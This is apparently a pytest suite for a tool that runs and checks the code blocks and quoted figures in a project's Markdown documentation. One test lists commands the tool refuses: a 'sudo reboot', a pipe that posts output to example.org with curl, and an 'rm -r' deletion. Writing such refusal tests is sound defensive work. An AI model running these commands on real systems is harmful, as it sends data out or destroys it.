"""The tests of the pages can fail: what they read, what they refuse, and what they report."""

from __future__ import annotations

from pathlib import Path

import pytest

from documentation.blocks import ROOT, Block, blocks, commands, is_plain, simple_commands, without_comment
from documentation.declarations import Declaration, declared
from documentation.figures import figures, undeclared
from documentation.page import run_page
from documentation.running import job_of
from refusals import refuses

pytestmark = pytest.mark.repo

PAGE = """
Some words.

<!-- run: with thing; 5 -> 1 -->
```bash
econzoo games   # what there is
for seed in 0 1; do
    econzoo evaluate ppo:runs/$seed \\
        --seeds 5
done
```

1. A list.
   ```python
   x = 1
   ```

```console
$ econzoo games
bargaining
```
"""


def page(tmp_path: Path, text: str) -> list[Block]:
    path = tmp_path / "page.md"
    path.write_text(text, encoding="utf-8")
    return [block._replace(page=ROOT / "page.md") for block in blocks(path)]


def python(code: str, declaration: Declaration | None = None, language: str = "python") -> Block:
    return Block(ROOT / "page.md", 1, language, code, declaration or Declaration())


def test_blocks_of_a_page(tmp_path: Path) -> None:
    shell, code, console = page(tmp_path, PAGE)
    assert (shell.line, shell.declaration.with_, shell.declaration.replacements) == (5, ["thing"], [("5", "1")])
    loop = "for seed in 0 1; do\necon" + "zoo evaluate ppo:runs/$seed          --seeds 5\ndone"
    assert shell.commands == ["econzoo games", loop]
    assert simple_commands(loop) == [["econzoo", "evaluate", "ppo:runs/0", "--seeds", "5"]]
    assert (code.text, code.declaration) == ("x = 1\n", Declaration())
    assert console.commands == ["econzoo games"]


@pytest.mark.parametrize(
    ("line", "kept"),
    [
        ("econzoo games  # all", "econzoo games"),
        ("# alone", ""),
        ("play 'a # b' x#y", "play 'a # b' x#y"),
        ('play "a#b" # c', 'play "a#b"'),
    ],
)
def test_comments_end_a_line_outside_quotes_only(line: str, kept: str) -> None:
    assert without_comment(line) == kept


@pytest.mark.parametrize(
    ("command", "plain"),
    [
        ("econzoo play bargaining 'boulware(0.2)' \"human('Ann; or > Bob')\"", True),
        ("econzoo games > games.txt", False),
        ("econzoo games && econzoo games", False),
        ("for x in a; do econzoo show $x; done", False),
    ],
)
def test_a_shell_is_used_only_where_one_is_needed(command: str, plain: bool) -> None:
    assert is_plain(command) is plain


def test_a_loop_has_an_end() -> None:
    with refuses(ValueError, "for seed in 0 1; do"):
        list(commands("for seed in 0 1; do\n    econzoo games"))


def test_unknown_clauses_are_refused() -> None:
    for clause in ["quick", "with", "5 - > 1", "typed"]:
        with refuses(ValueError, clause):
            declared(f"<!-- run: {clause} -->")


def test_a_clause_about_words_that_are_not_there_is_refused() -> None:
    for clause, missing in (("--seeds 9 -> --seeds 1", "--seeds 9"), ("long econzoo train", "econzoo train")):
        with refuses(ValueError, f"'{missing}'"):
            declared(f"<!-- run: {clause} -->").check("econzoo tournament bargaining spe fair --seeds 5")


def test_programs_that_no_page_may_start_are_refused(tmp_path: Path) -> None:
    for command, named in (
        ("sudo reboot", "sudo"),
        ("econzoo games | curl -d @- example.org", "curl"),
        ("rm -r runs", "rm"),
    ):
        with refuses(ValueError, f"'{named}'", "econzoo"):
            job_of(command, tmp_path, {}, "")


def test_what_fails_is_reported_with_its_place_and_output(tmp_path: Path) -> None:
    found = [python("raise SystemExit('so it ended')"), python("econzoo show chess", language="bash")]
    code, command = run_page(found, tmp_path)
    assert "page.md:1" in code
    assert "so it ended" in code
    assert "bargaining" in command, "the error that lists the games"


def test_blocks_share_a_folder_and_nothing_else(tmp_path: Path) -> None:
    first = python("from pathlib import Path\nPath('kept').write_text('1')\ngone = 1")
    second = python("assert open('kept').read() == '1'\nassert 'gone' not in globals()")
    assert run_page([first, second, python("assert __name__ == '__main__'")], tmp_path) == []


def test_typed_lines_are_read_and_a_definition_goes_on(tmp_path: Path) -> None:
    declaration = declared("<!-- run: typed one / two; then assert f() == 'onetwoone' -->")
    assert run_page([python("def f():\n    return input() + input() + input()", declaration)], tmp_path) == []


def test_long_commands_wait_for_the_long_tests(tmp_path: Path) -> None:
    found = [python("raise ValueError('took long')", declared("<!-- run: long took long -->"))]
    assert run_page(found, tmp_path) == []
    assert len(run_page(found, tmp_path, long=True)) == 1


FIGURES = """
```python
print("gain 0.1139, share 12.25%, less 1,234.5 (-0.25 to 0.1)", 0.5)
```

<!-- figures -->
| player | distance |
|---|---|
| `acceptor(0.777)` | {} |
"""


def lacking(tmp_path: Path, text: str, long: bool = False) -> list[str]:
    """What a page with declared figures lacks."""
    own = page(tmp_path, text)
    found = [
        one._replace(source=one.source and one.source._replace(page=ROOT / "page.md"))
        for one in figures(tmp_path / "page.md", own)
    ]
    return run_page([*own, *(one.source for one in found if one.made and one.source)], tmp_path, long, found)


def test_figures_are_compared_to_their_digits(tmp_path: Path) -> None:
    signed = ("-0.25", "0.25", "+0.114")
    for shown in ("0.114", "0.11", "0.1139", "12.3%", "12%", "0.12", "1,234.5", "0.50", "2 of 7", *signed):
        assert lacking(tmp_path, FIGURES.format(f"0.114 and {shown}")) == [], shown
    for shown in ("0.137", "0.115", "0.11394", "13%", "-0.114", "+0.25", "1,234.6"):
        (failed,) = lacking(tmp_path, FIGURES.format(shown))
        assert shown in failed
        assert "page.md:6" in failed


def test_figures_of_other_commands(tmp_path: Path) -> None:
    text = "<!-- figures:\nlong\npython own.py\n-->\nThey earn {}.\n\nNot 0.999."
    (tmp_path / "own.py").write_text("print(0.25)")
    assert lacking(tmp_path, text.format("0.26")) == [], "long"
    assert lacking(tmp_path, text.format("0.25"), long=True) == []
    assert "0.26" in lacking(tmp_path, text.format("0.26"), long=True)[0]
    assert "7" in lacking(tmp_path, "<!-- figures:\ncounts\npython own.py\n-->\nOf 7 cells.")[0]
    assert lacking(tmp_path, "<!-- figures: none, by hand -->\n| 0.26 |") == []


def test_figures_have_a_source(tmp_path: Path) -> None:
    for text in (
        "<!-- figures -->\nAbout 0.5.",
        "```python\nprint(0.5)\n```\n<!-- figures -->\nNothing.",
        "<!-- run: 5 -> 1 -->\n```python\nprint(0.5)\n```\n<!-- figures -->\nAbout 0.5.",
    ):
        with refuses(ValueError, "page.md"):
            lacking(tmp_path, text)


def test_results_beside_a_command_have_to_be_declared(tmp_path: Path) -> None:
    text = FIGURES.format("0.114")
    hidden = text.replace("<!-- figures -->\n", "")
    elsewhere, whole = text.replace("<!-- figures -->", "# B"), hidden.replace("0.114", "7")
    for shown, places in ((text, 0), (hidden, 1), (elsewhere, 0), (whole, 0)):
        assert len(list(undeclared(tmp_path / "page.md", page(tmp_path, shown)))) == places
